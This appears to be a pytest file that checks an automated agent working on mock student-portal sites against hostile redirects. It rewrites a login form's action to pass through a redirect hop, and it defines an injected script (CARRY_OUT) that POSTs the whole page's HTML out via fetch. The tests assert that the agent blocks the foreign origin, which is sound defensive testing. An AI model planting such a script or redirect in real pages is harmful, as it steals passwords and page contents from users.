"""Whole runs at sites that turn against the student: a redirect of their own carries out the password, or what a page knows."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from agent.report.model import Report
from fixtures.server import MockSites
from tests.harness.program import run_job, site_settings
from tests.robustness.attacks.redirects.hosts import AllowedHost, ForeignHost, allowed_host, foreign_host

CARRY_OUT = """<script>addEventListener("load", () => fetch("{hop}",
  {{method: "POST", mode: "no-cors", body: document.documentElement.outerHTML}}).catch(() => 0))</script></body>"""


@pytest.fixture
def foreign() -> Iterator[ForeignHost]:
    with foreign_host() as host:
        yield host


@pytest.fixture
def accomplice(foreign: ForeignHost) -> Iterator[AllowedHost]:
    """Another port of the sites' own host, which redirects whatever it gets."""
    with allowed_host(foreign) as host:
        yield host


@contextmanager
def _sites(site: str, path: str, pattern: str, replacement: str) -> Iterator[MockSites]:
    """Mock sites that have another text in place of the pattern on the pages of a site that begin with a path."""

    def mutate(where: str, page: str, html: str) -> str:
        return re.sub(pattern, replacement, html) if where == site and page.startswith(path) else html

    with MockSites(mutate=mutate) as sites:
        yield sites


def _is_stopped_at(report: Report, foreign: ForeignHost) -> None:
    assert report.trouble is not None
    assert (report.exit_status, report.trouble.code) == (22, "origin.blocked"), report.trouble
    assert foreign.netloc in report.trouble.message
    assert foreign.heard == []


@pytest.mark.parametrize("status", [302, 307, 308])
@pytest.mark.parametrize("site", ["chsi", "chaoxing"])
def test_a_sign_in_form_is_not_redirected(
    browser: Browser, accomplice: AllowedHost, foreign: ForeignHost, tmp_path: Path, site: str, status: int
) -> None:
    hop = accomplice.address(f"/hop/{status}")
    with _sites(site, "/", r'(<form id="(?:fm1|loginForm)"[^>]*action=")[^"]*', rf"\g<1>{hop}") as sites:
        report = run_job(browser, site_settings(sites), tmp_path / "case", patience=10)
    assert accomplice.hops == [f"/hop/{status}"]
    _is_stopped_at(report, foreign)


@pytest.mark.parametrize("site", ["chsi", "chaoxing"])
def test_a_page_carries_nothing_out_in_silence(
    browser: Browser, accomplice: AllowedHost, foreign: ForeignHost, tmp_path: Path, site: str
) -> None:
    script = CARRY_OUT.format(hop=accomplice.address("/hop/307"))
    with _sites(site, "/", "</body>", script) as sites:
        report = run_job(browser, site_settings(sites), tmp_path / "case", patience=10)
        assert all(effect["kind"] != "photo_upload" for effect in sites.world.state()["effects"])
    assert accomplice.hops
    _is_stopped_at(report, foreign)
